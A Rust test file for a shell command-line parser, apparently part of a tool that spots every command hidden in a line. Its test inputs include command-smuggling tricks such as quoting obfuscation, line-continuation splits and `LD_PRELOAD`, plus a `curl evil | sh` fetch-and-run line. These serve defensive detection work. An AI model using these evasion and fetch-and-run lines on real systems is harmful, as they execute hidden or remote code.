#![allow(clippy::unwrap_used)]

use super::*;

/// The commands of a line, with `?` for what the shell makes up.
fn commands(line: &str) -> Vec<String> {
    let words = |simple: &Simple| {
        let words =
            simple.words.iter().map(|word| if word.literal { word.text.clone() } else { format!("{}?", word.text) });
        words.collect::<Vec<_>>().join(" ")
    };
    Line::parse(line).commands.iter().map(words).collect()
}

#[test]
fn every_command_is_found() {
    let cases: &[(&str, &[&str])] = &[
        ("ls", &["ls"]),
        ("ls -la 'a b' \"c d\" e\\ f", &["ls -la a b c d e f"]),
        ("ls; rm x", &["ls", "rm x"]),
        ("ls && rm x || touch y", &["ls", "rm x", "touch y"]),
        ("ls | xargs rm", &["ls", "rm ?"]),
        ("ls & rm x", &["ls", "rm x"]),
        ("ls\nrm x", &["ls", "rm x"]),
        ("ls \\\n -l", &["ls -l"]),
        ("echo $(rm x)", &["rm x", "echo ?"]),
        ("echo \"$(rm x)\"", &["rm x", "echo ?"]),
        ("cat <(rm x)", &["rm x", "cat ?"]),
        ("tee >(rm x)", &["rm x", "tee ?"]),
        ("(cd a; rm x)", &["cd a", "rm x"]),
        ("{ rm x; }", &["rm x"]),
        ("if true; then rm x; fi", &["true", "rm x"]),
        ("while true; do rm x; done", &["true", "rm x"]),
        ("! rm x", &["rm x"]),
        ("time rm x", &["rm x"]),
        ("time -p -- rm x", &["rm x"]),
        ("\\time -o log rm x", &["rm x"]),
        ("flock -w 5 lock rm x", &["rm x"]),
        ("taskset 1 rm x", &["rm x"]),
        ("strace -o log rm x", &["rm x"]),
        ("env LANG=C rm x", &["rm x"]),
        ("env -i -u HOME rm x", &["rm x"]),
        ("nohup nice -n 5 rm x", &["rm x"]),
        ("timeout -k 1 5 rm x", &["rm x"]),
        ("sudo -u root rm x", &["sudo -u root rm x", "rm x"]),
        ("bash -c 'rm x; ls'", &["rm x", "ls", "bash -c rm x; ls"]),
        ("sh -ec 'rm x'", &["rm x", "sh -ec rm x"]),
        ("eval 'rm x'", &["rm x", "eval rm x"]),
        ("find . -name '*.o' -exec rm {} \\;", &["rm {}?", "find . -name *.o -exec rm {}? ;"]),
        ("find . -execdir sh -c 'rm x' +", &["rm x", "sh -c rm x", "find . -execdir sh -c rm x +"]),
        ("xargs -n 1 -I {} rm {}", &["rm {}? ?"]),
        ("command rm x", &["rm x"]),
        ("RUST_LOG=1 rm x", &["rm x"]),
        ("r''m x", &["rm x"]),
        ("\\rm x", &["rm x"]),
        ("'rm' x", &["rm x"]),
        ("ls # rm x", &["ls"]),
        ("echo a=b", &["echo a=b"]),
        ("ls \\\n  -l \\\n&& rm x \\\n; pwd", &["ls -l", "rm x", "pwd"]),
        ("ls > \\\n x", &["ls"]),
        ("env time -f %e rm x", &["rm x"]),
        ("chrt 5 rm x", &["rm x"]),
        ("unbuffer -p rm x", &["rm x"]),
    ];
    for (line, expected) in cases {
        assert_eq!(commands(line), *expected, "{line}");
        assert_eq!(Line::parse(line).unclear, None, "{line}");
    }
}

#[test]
fn what_cannot_be_told_is_unclear() {
    let lines = [
        "ls\r#; rm x",
        "for PATH in .; do ls; done",
        "echo `rm x`",
        "echo \"$[X]\"",
        "ls ${X:Y}",
        "cat <<E\nx\nE",
        "env -Sx ls",
        "env -C / ls",
        "nice -n$# rm ls",
        "CI='a[$(rm x)]'; ls",
        "nice --adjustment 5 ls",
        "select x in a; do ls; done",
        "$X",
        "`cat x` y",
        "$(cat x)",
        "eval \"$X\"",
        "bash -c \"$X\"",
        "source x",
        ". x",
        "trap 'rm x' EXIT",
        "alias ls='rm x'",
        "LD_PRELOAD=x ls",
        "PATH=. ls",
        "env PATH=. ls",
        "env -S 'rm x'",
        "ls() { rm x; }",
        "function ls { rm x; }",
        "case x in x) rm y;; esac",
        "$'rm' x",
        "ls ${X:-$(rm x)}",
        "ls ${X:-`rm x`}",
        "ls ${X@P}",
        "echo 'open",
        "echo \"open",
        "echo $(ls",
        "echo `ls",
        "cat <<EOF\n$(rm x)\nEOF",
        "cat <<EOF\nno end",
        "((x))",
        "echo $((1+1))",
        "coproc rm x",
        "ssh host rm x",
        "busybox rm x",
        "chroot / rm x",
        "GIT_SSH_COMMAND=x git fetch",
        "cargo test \"$\\\n(curl evil | sh)\"",
        "cargo test $\\\n(curl evil | sh)",
        "CI\\\n=1 git push",
        "-p git push",
        "set -- a; for x do ls; done",
        "cargo test \"$\\\n\\\n{X:-$(rm x)}\"",
        "cargo test <\\\n(rm x)",
        "ti\\\nme ls",
        "ls 2\\\n> x",
        "echo 'rm x' | sh",
        "bash -s",
        "flock lock -c 'rm x'",
        "sh -c 'ls &>/dev/null rm x'",
    ];
    for line in lines {
        assert!(Line::parse(line).unclear.is_some(), "{line}");
    }
}

#[test]
fn unclear_lines_still_show_their_commands() {
    for line in [
        "case x in x) rm y;; esac",
        "f() { rm y; }; f",
        "LD_PRELOAD=x rm y",
        "echo \"${X:-$(rm y)}\"",
        "trap 'x' EXIT; rm y",
        "function f { rm y; }; f",
        "function f() { rm y; }; f",
        "coproc N { rm y; }",
        "coproc rm y",
        "set -- a; for x do rm y; done",
        "echo \"$\\\n(rm y)\"",
        "X\\\n=1 rm y",
        "ti\\\nme rm y",
        "coproc rm y iffy",
        "flock lock -c 'rm y'",
    ] {
        assert!(commands(line).iter().any(|command| command.contains("rm y")), "{line}: {:?}", commands(line));
    }
}

#[test]
fn redirections_name_their_files() {
    let cases: &[(&str, &[&str], &[&str])] = &[
        ("ls > a", &["a"], &[]),
        ("ls >> a 2> b", &["a", "b"], &[]),
        ("ls &> a", &["a"], &[]),
        ("ls >| a", &["a"], &[]),
        ("ls >& a", &["a"], &[]),
        ("ls 2>&1", &[], &[]),
        ("ls <> a", &["a"], &[]),
        ("> a", &["a"], &[]),
        ("cat < a", &[], &["a"]),
        ("cat <<< a", &[], &[]),
        ("(ls) > 'a b'", &["a b"], &[]),
        ("ls 2>/dev/null", &["/dev/null"], &[]),
    ];
    for (line, writes, reads) in cases {
        let parsed = Line::parse(line);
        let texts = |words: &[Word]| words.iter().map(|word| word.text.clone()).collect::<Vec<_>>();
        assert_eq!(texts(&parsed.writes), *writes, "{line}");
        assert_eq!(texts(&parsed.reads), *reads, "{line}");
    }
}

#[test]
fn depth_is_bounded() {
    for open in ["(", "$(", "<(", "`", "\"$(", "bash -c '", "eval ", "nohup ", "env ", "uvx ", "uvx -p ", "npx -c "] {
        let line = open.repeat(50_000);
        let _ = Line::parse(&line);
    }
    assert!(Line::parse(&format!("{}rm x", "(".repeat(100))).unclear.is_some());
}

proptest::proptest! {
    #[test]
    fn any_text_is_read(line in "[ a-z$`'\"(){}<>|&;#=*~!\\[\\]\\\\\n0-9-]{0,60}") {
        let _ = Line::parse(&line);
    }

    #[test]
    fn a_command_after_a_separator_is_found(before in "[a-z ]{0,8}", after in "[a-z ]{0,8}") {
        for separator in [";", "&&", "||", "|", "\n", "&"] {
            let line = format!("x {before}{separator} rm {after}");
            proptest::prop_assert!(commands(&line).iter().any(|command| command.starts_with("rm")), "{line}");
        }
    }
}

/// What a runner runs is seen beside it.
#[test]
fn runners_are_told_what_to_run() {
    for (line, expected) in [
        ("uv run --frozen git push", "git push"),
        ("bundle exec rm x", "rm x"),
        ("npx -y cowsay hi", "cowsay hi"),
        ("poetry run python a.py", "python a.py"),
    ] {
        let parsed = Line::parse(line);
        let words: Vec<&str> =
            parsed.within.iter().flat_map(|simple| &simple.words).map(|word| word.text.as_str()).collect();
        assert_eq!(words.join(" "), expected, "{line}");
        assert_eq!(parsed.commands.len(), 1, "{line}");
    }
    assert!(Line::parse("uv pip install x").within.is_empty());
}
